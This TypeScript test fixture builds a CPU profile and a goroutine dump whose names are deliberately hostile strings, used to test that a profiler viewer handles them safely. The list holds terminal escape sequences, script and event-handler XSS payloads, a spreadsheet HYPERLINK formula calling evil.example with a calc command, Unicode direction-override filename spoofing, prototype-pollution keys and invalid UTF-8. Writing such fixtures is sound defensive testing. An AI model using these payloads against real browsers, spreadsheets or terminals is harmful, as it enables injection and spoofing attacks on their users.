/**
 * One profile with everything in its names that could do harm: to a terminal, a browser, a spreadsheet, a parser.
 */
import {bytesField, join, message, numberField, packedField} from './proto.ts';

/** Function names; each also stands as a file name, label and comment. */
export const HOSTILE_NAMES: readonly string[] = [
  'evil\u001b[2J\u001b]0;pwned\u0007\u001b[31mRED\u009b31m\r\n\bfake 100%',
  '</script><script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>',
  '"><svg onload=window.__pwned=1>',
  '=HYPERLINK("http://evil.example/?"&A1,"x")|\' /C calc\'!A0',
  'main.\u202egnp.\u2066safe\u2069\u200bx',
  'a\u2028b\u2029c<!--<script>',
  'nul\u0000byte',
  'ns;func name 12\n3',
  '"]; evil [label="\\N',
  'pipe | `tick` [link](http://evil.example) <b>bold</b> **x**\n# heading',
  '__proto__',
  'constructor',
  ']]>&amp;<![CDATA[',
  'tab\tname\\',
  '(1) 7 calls=9 9',
  'a'.repeat(3000) + '!',
  '',
];

/** Bytes that are no UTF-8. */
const BROKEN = Uint8Array.of(0x6d, 0x61, 0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80);

const HEAD = ['', 'samples', 'count', 'cpu', 'nanoseconds', 'bytes'];
const FIRST_NAME = HEAD.length;
export const HOSTILE_FRAMES: number = HOSTILE_NAMES.length + 1;

/**
 * A CPU profile of one deep stack and one sample per name, all of them labelled.
 *
 * @param types  whether sample types and their units are hostile as well; else they are those of a CPU profile
 */
export function hostileProfile(types: 'cpu' | 'hostile' = 'cpu'): Uint8Array {
  const rows = Array.from({length: HOSTILE_FRAMES}, (_, i) => i);
  const nameOf = (i: number): number => FIRST_NAME + i;
  const label = (i: number): Uint8Array => message(3, numberField(1, nameOf(i)), numberField(2, nameOf(i)));
  const sample = (stack: readonly number[], i: number): Uint8Array =>
    message(2, packedField(1, stack), packedField(2, [1, 10_000_000]), label(i));
  return join(
    ...(types === 'cpu' ? [1, 3] : [nameOf(0), nameOf(4)]).map((type) =>
      message(1, numberField(1, type), numberField(2, types === 'cpu' ? type + 1 : type)),
    ),
    sample(
      [...rows].reverse().map((i) => i + 1),
      0,
    ),
    ...rows.map((i) => sample([i + 1], i)),
    message(
      3,
      numberField(1, 1),
      numberField(2, 0x1000),
      numberField(3, 0x9000),
      numberField(5, nameOf(1)),
      numberField(6, nameOf(0)),
    ),
    ...rows.map((i) =>
      message(
        4,
        numberField(1, i + 1),
        numberField(2, 1),
        numberField(3, 0x1000 + i),
        message(4, numberField(1, i + 1), numberField(2, i)),
      ),
    ),
    ...rows.map((i) =>
      message(
        5,
        numberField(1, i + 1),
        numberField(2, nameOf(i)),
        numberField(3, nameOf(i)),
        numberField(4, nameOf(i)),
      ),
    ),
    ...[...HEAD, ...HOSTILE_NAMES].map((text) => bytesField(6, text)),
    bytesField(6, BROKEN),
    numberField(9, 1_700_000_000_000_000_001n),
    numberField(10, 30_000_000),
    ...rows.map((i) => numberField(13, nameOf(i))),
    numberField(15, nameOf(1)),
  );
}

/** A goroutine dump whose functions, files and states try the same. */
export function hostileDump(): string {
  const names = HOSTILE_NAMES.map((name) => name.replace(/[\n\u0000-\u0007]/g, ' ')).filter((name) => name !== '');
  return names
    .map(
      (name, i) =>
        `goroutine ${i + 1} [${name.slice(0, 40).replaceAll(']', '')}, 5 minutes]:\n${name}(0x1)\n\t/src/${name}.go:1 +0x1\ncreated by ${name}\n\t/src/x.go:2 +0x2\n`,
    )
    .join('\n');
}
